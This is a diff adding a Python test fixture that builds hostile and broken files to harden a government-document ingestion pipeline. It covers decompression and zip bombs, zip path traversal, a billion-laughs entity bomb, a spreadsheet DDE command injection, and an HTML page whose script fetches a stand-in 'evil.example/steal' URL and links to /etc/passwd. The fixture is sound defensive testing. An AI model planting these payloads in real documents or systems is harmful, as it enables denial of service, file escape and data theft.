@@ -1,0 +1,322 @@
+"""A corpus of hostile and broken evidence files, written into a directory the caller gives.
+
+Every file is generated here (nothing downloaded, nothing from a real body). `write_corpus` returns
+one `Case` per file with what ingestion must do with it: "ok" (ingested), "error" (refused with a
+Chinese message) or "any" (either is acceptable, as long as nothing crashes or escapes).
+The limits the bombs are meant to hit are `LIMITS` (small, so the tests stay fast); the bombs are
+sized well beyond them but still cheap to build.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+from tests.ingestion.makefiles import make_docx, make_pdf, make_xlsx, render_text_image
+
+# Environment for the run under test: limits small enough that every bomb trips one quickly.
+LIMITS = {
+    "ZWGK_MAX_FILE_MB": "8",
+    "ZWGK_MAX_PAGES": "300",
+    "ZWGK_MAX_IMAGE_PIXELS": "40000000",
+    "ZWGK_MAX_UNZIPPED_MB": "40",
+    "ZWGK_OCR": "false",
+    "ZWGK_EMBEDDING_BACKEND": "none",
+}
+
+TEXT = "香河县人民政府办公室关于2023年政府信息公开工作年度报告的说明。本年度主动公开政府信息一百二十条。"
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str  # path relative to the corpus root (the display name ingestion reports)
+    expect: str  # ok | error | any | ignored (hidden file)
+    why: str
+
+
+# ---- raw PDF writer (for files reportlab would never produce) ----------------------------------------
+
+def raw_pdf(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
+    """A PDF from object bodies (object i+1 = objects[i]) with a correct xref table."""
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for i, body in enumerate(objects, start=1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
+    for off in offsets:
+        out.write(b"%010d 00000 n \n" % off)
+    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
+              % (len(objects) + 1, root, trailer_extra, xref))
+    return out.getvalue()
+
+
+def _stream(data: bytes) -> bytes:
+    payload = zlib.compress(data, 9)
+    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(payload) + payload + b"\nendstream"
+
+
+def _page_tree(kids: bytes, count: int) -> bytes:
+    return b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
+
+
+def pdf_stream_bomb(mb: int) -> bytes:
+    """One page whose content stream inflates to `mb` MB (a few hundred KB on disk)."""
+    content = b"q Q\n" * (mb * 1024 * 256)
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        _page_tree(b"3 0 R", 1),
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+        _stream(content),
+    ])
+
+
+def pdf_page_count_lie(count: int) -> bytes:
+    """A page tree that claims `count` pages but holds one."""
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        _page_tree(b"3 0 R", count),
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+        _stream(b"BT ET"),
+    ])
+
+
+def pdf_many_pages(n: int) -> bytes:
+    """A genuine page tree of n pages sharing one content stream (tiny on disk, huge page count)."""
+    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(n))
+    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * n
+    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", _page_tree(kids, n), _stream(b"BT ET"), *pages])
+
+
+def pdf_deep_nesting(depth: int) -> bytes:
+    """An object of `depth` nested arrays (recursive parsers overflow their stack)."""
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R /Junk 4 0 R >>",
+        _page_tree(b"3 0 R", 1),
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /X 4 0 R >> >>",
+        b"[" * depth + b"]" * depth,
+    ])
+
+
+def pdf_reference_loop() -> bytes:
+    """Pages whose /Kids point back at their own tree (infinite recursion for naive walkers)."""
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
+        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>",
+    ])
+
+
+def pdf_huge_mediabox() -> bytes:
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        _page_tree(b"3 0 R", 1),
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /UserUnit 75000 /Contents 4 0 R >>",
+        _stream(b"BT ET"),
+    ])
+
+
+# ---- zip containers -------------------------------------------------------------------------------
+
+def _rewrite_zip(src: bytes, extra: dict[str, bytes], drop: set[str] = frozenset()) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            if info.filename not in drop:
+                zout.writestr(info, zin.read(info.filename))
+        for name, data in extra.items():
+            zout.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED)
+    return out.getvalue()
+
+
+def _padded_document_xml(mb: int) -> bytes:
+    return b"<?xml version='1.0'?><w:document xmlns:w='x'>" + b" " * (mb << 20) + b"</w:document>"
+
+
+def lie_about_size(data: bytes, member: str, claimed: int) -> bytes:
+    """Rewrite a member's declared uncompressed size (local header and central directory)."""
+    buf = bytearray(data)
+    name = member.encode()
+    local = buf.find(b"PK\x03\x04")
+    while local != -1:
+        n = struct.unpack_from("<H", buf, local + 26)[0]
+        if bytes(buf[local + 30: local + 30 + n]) == name:
+            struct.pack_into("<I", buf, local + 22, claimed)
+            break
+        local = buf.find(b"PK\x03\x04", local + 4)
+    central = buf.find(b"PK\x01\x02")
+    while central != -1:
+        n = struct.unpack_from("<H", buf, central + 28)[0]
+        if bytes(buf[central + 46: central + 46 + n]) == name:
+            struct.pack_into("<I", buf, central + 24, claimed)
+            break
+        central = buf.find(b"PK\x01\x02", central + 4)
+    return bytes(buf)
+
+
+# ---- images ---------------------------------------------------------------------------------------
+
+def png_header_claiming(width: int, height: int) -> bytes:
+    """A PNG whose IHDR claims width x height, with one tiny IDAT (a decompression-bomb header)."""
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
+
+
+def bmp_header_claiming(width: int, height: int) -> bytes:
+    header = struct.pack("<2sIHHI", b"BM", 54 + 16, 0, 0, 54)
+    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 16, 2835, 2835, 0, 0)
+    return header + info + b"\0" * 16
+
+
+def gif_header_claiming(width: int, height: int) -> bytes:
+    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00" + b"\0" * 6 + b";"
+
+
+# ---- the corpus -----------------------------------------------------------------------------------
+
+def write_corpus(root: Path) -> list[Case]:
+    root.mkdir(parents=True, exist_ok=True)
+    cases: list[Case] = []
+
+    def put(name: str, data: bytes | Callable[[Path], object], expect: str, why: str) -> None:
+        path = root / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if callable(data):
+            data(path)
+        else:
+            path.write_bytes(data)
+        cases.append(Case(name, expect, why))
+
+    good_pdf = make_pdf(root / "正常 年报.pdf", ["香河县人民政府2023年政府信息公开工作年度报告", TEXT])
+    cases.append(Case("正常 年报.pdf", "ok", "control: a valid text PDF"))
+    pdf = good_pdf.read_bytes()
+    good_docx = make_docx(root / "正常 解读.docx", ["关于《香河县政务公开工作要点》的政策解读", TEXT])
+    cases.append(Case("正常 解读.docx", "ok", "control: a valid DOCX"))
+    docx = good_docx.read_bytes()
+
+    # PDFs
+    put("truncated.pdf", pdf[: len(pdf) // 2], "any", "PDF cut in half (xref lost)")
+    put("corrupt.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 40, "error", "PDF header then garbage")
+    put("encrypted.pdf", lambda p: make_pdf(p, [TEXT], encrypt_password="secret"), "error", "password-protected PDF")
+    put("page-bomb.pdf", pdf_many_pages(1200), "error", "1,200 real pages > ZWGK_MAX_PAGES=300")
+    put("page-count-lie.pdf", pdf_page_count_lie(2_000_000_000), "any", "page tree claims 2e9 pages")
+    put("stream-bomb.pdf", pdf_stream_bomb(400), "any", "content stream inflating to 400 MB")
+    put("deep-nesting.pdf", pdf_deep_nesting(200_000), "any", "200,000 nested arrays")
+    put("reference-loop.pdf", pdf_reference_loop(), "any", "page tree referencing itself")
+    put("huge-mediabox.pdf", pdf_huge_mediabox(), "any", "14400 pt page with UserUnit 75000")
+    img = io.BytesIO()
+    render_text_image(["香河县人民政府", "扫描件"], width=600, size=28).save(img, "PNG")
+
+    def scanned(p: Path) -> None:
+        from reportlab.lib.utils import ImageReader
+        from reportlab.pdfgen import canvas
+
+        c = canvas.Canvas(str(p))
+        c.drawImage(ImageReader(io.BytesIO(img.getvalue())), 40, 600, width=300, height=60)
+        c.showPage()
+        c.save()
+    put("image-only.pdf", scanned, "ok", "scan without text layer (OCR off: ingested with a warning)")
+
+    # zero bytes and wrong extensions
+    for name in ("empty.pdf", "empty.docx", "empty.txt"):
+        put(name, b"", "error", "zero bytes")
+    put("pdf-named.docx", pdf, "ok", "a PDF named .docx")
+    put("docx-named.pdf", docx, "ok", "a DOCX named .pdf")
+    put("text-named.xlsx", TEXT.encode("utf-8"), "ok", "plain text named .xlsx (read as text, warned)")
+    put("png-named.pdf", img.getvalue(), "ok", "a PNG named .pdf")
+    put("random.bin", bytes((i * 7919) % 251 for i in range(20000)), "any", "random bytes")
+    put("legacy-garbage.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, "error", "OLE2 magic, nothing else")
+
+    # zip containers
+    bomb = _rewrite_zip(docx, {"word/document.xml": _padded_document_xml(200)}, {"word/document.xml"})
+    put("zip-bomb.docx", bomb, "error", "document.xml expands to 200 MB > ZWGK_MAX_UNZIPPED_MB=40")
+    put("zip-bomb-lying.docx", lie_about_size(bomb, "word/document.xml", 4096), "error",
+        "document.xml declares 4 KB but inflates to 200 MB")
+    put("traversal.docx", _rewrite_zip(docx, {"../../evil.txt": b"escaped", "/tmp/evil.txt": b"abs"}), "error",
+        "DOCX with ../../evil.txt and /tmp/evil.txt members")
+    members = set(zipfile.ZipFile(io.BytesIO(docx)).namelist())
+    put("traversal.zip", _rewrite_zip(docx, {"../../evil.txt": b"x"}, members), "error",
+        "plain zip with a ../../evil.txt member")
+    put("not-really.ofd", _rewrite_zip(docx, {"OFD.xml": b"<ofd:OFD"}, members), "error", "broken OFD")
+
+    def formulas(p: Path) -> None:
+        make_xlsx(p, {"台账": [["序号", "申请人", "收到日期", "合计"], [1, "张三", "2023-09-28", "=SUM(A2:A3)"],
+                              [2, "李四", "2023-10-08", '=HYPERLINK("http://evil.example","点我")'],
+                              ["=1/0", "=cmd|' /C calc'!A0", "", ""]]})
+    put("formulas.xlsx", formulas, "ok", "formulas, DDE-style injection, #DIV/0!")
+
+    def merged(p: Path) -> None:
+        from openpyxl import Workbook
+
+        wb = Workbook()
+        ws = wb.active
+        ws.append(["序号", "事项", "办理结果"])
+        ws.append([1, "政府信息公开申请", "予以公开"])
+        ws.merge_cells("A5:Z400")
+        ws.merge_cells("B2:C2")
+        wb.save(p)
+    put("merged.xlsx", merged, "ok", "merged cells incl. a 26x396 block")
+
+    def empty_rows(p: Path) -> None:
+        from openpyxl import Workbook
+
+        wb = Workbook()
+        ws = wb.active
+        ws.append(["序号", "申请人"])
+        for r in range(3, 6000):  # thousands of formatted but empty rows
+            ws.cell(r, 2).number_format = "@"
+        ws.cell(6000, 1, "末行")
+        ws["XFD1048576"] = " "  # a stray cell at the sheet's last address
+        wb.save(p)
+    put("empty-rows.xlsx", empty_rows, "any", "6,000 empty rows and a stray cell at XFD1048576")
+
+    # images
+    put("giant.png", png_header_claiming(50_000, 50_000), "error", "PNG header claims 50000x50000")
+    put("giant.bmp", bmp_header_claiming(50_000, 50_000), "error", "BMP header claims 50000x50000")
+    put("giant.gif", gif_header_claiming(65_535, 65_535), "error", "GIF header claims 65535x65535")
+    put("truncated.png", img.getvalue()[:300], "any", "PNG cut after 300 bytes")
+
+    # encodings
+    put("gbk.txt", TEXT.encode("gbk"), "ok", "GBK text")
+    put("gb18030.txt", (TEXT + "䶮𠀀").encode("gb18030"), "ok", "GB18030 with 4-byte characters")
+    put("utf16.txt", TEXT.encode("utf-16"), "ok", "UTF-16 with BOM")
+    put("big5.txt", "香河縣人民政府辦公室關於政府資訊公開工作年度報告的說明。".encode("big5"), "ok", "Big5 text")
+    put("mixed-junk.txt", TEXT.encode() + b"\xff\xfe\x00\x81" * 50 + TEXT.encode("gbk"), "any", "mixed encodings")
+    put("long-line.csv", ("序号," + ",".join(f"列{i}" for i in range(20000)) + "\n1,"
+                          + ",".join("x" for _ in range(20000)) + "\n").encode(), "any", "20,000 columns")
+
+    # HTML
+    data_url = "data:image/png;base64," + base64.b64encode(img.getvalue()).decode()
+    put("scripts.html", f"""<!doctype html><html><head><title>香河县政务公开</title>
+<script>document.write('<p>伪造的正文</p>'); fetch('http://evil.example/steal')</script>
+<meta http-equiv="refresh" content="0;url=http://evil.example/"></head><body>
+<iframe src="http://evil.example/frame"></iframe><iframe srcdoc="&lt;p&gt;框架内文字&lt;/p&gt;"></iframe>
+<h1>关于政府信息公开工作的通知</h1><p>{TEXT}</p><img src="{data_url}" alt="内联图片">
+<a href="javascript:alert(1)">链接</a><a href="file:///etc/passwd">本地文件</a>
+<object data="http://evil.example/x.swf"></object><style>p{{color:red}}</style></body></html>""".encode(),
+        "ok", "scripts, iframes, data: URL, javascript:/file: links, meta refresh")
+    put("deep.html", (b"<html><body>" + b"<div>" * 50_000 + TEXT.encode() + b"</div>" * 50_000
+                      + b"</body></html>"), "any", "50,000 nested divs")
+    lol = b"".join(b'<!ENTITY l%d "%s">' % (i + 1, b"&l%d;" % i * 10) for i in range(9))
+    put("entity-bomb.xhtml", (b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol">' + lol
+                              + b"]><html><head><title>t</title></head><body><p>&l9;</p><p>" + TEXT.encode()
+                              + b"</p></body></html>"), "any", "billion-laughs entities in a DOCTYPE")
+
+    # file names
+    put("子目录 一/香河县 2023 年 报告（终稿）.txt", TEXT.encode(), "ok", "Chinese, spaces, full-width brackets")
+    put("..\\..\\逃逸.txt", TEXT.encode(), "ignored", "a dot-file (hidden): skipped by design, never read")
+    put("附件..\\..\\逃逸2.txt", TEXT.encode() + b"2", "ok", "a name with ..\\ components")
+    put("a..b...txt", TEXT.encode(), "ok", "dots inside the name")
+    put("名字 带 空格 .pdf", pdf, "ok", "spaces before the extension")
+    put("-rf.txt", TEXT.encode(), "ok", "a name that looks like an option")
+    return cases
